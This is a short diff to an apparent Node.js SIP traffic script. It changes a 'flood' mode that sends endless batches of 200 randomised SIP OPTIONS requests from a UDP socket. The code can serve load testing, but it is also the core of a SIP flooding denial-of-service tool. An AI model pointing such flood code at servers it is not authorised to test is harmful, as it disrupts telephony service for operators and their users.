@@ -36,7 +36,7 @@ socket.bind(Number(port), host, () => {
   if (manner === 'flood') {
     const some = () => {
       for (let i = 0; i < 200; i++)
-        send(register.replace('REGISTER sip', 'OPTIONS sip').replace('bK1', `bK${Math.random()}`));
+        send(register.replaceAll('REGISTER', 'OPTIONS').replace('bK1', `bK${Math.random()}`));
       setImmediate(some);
     };
     some();
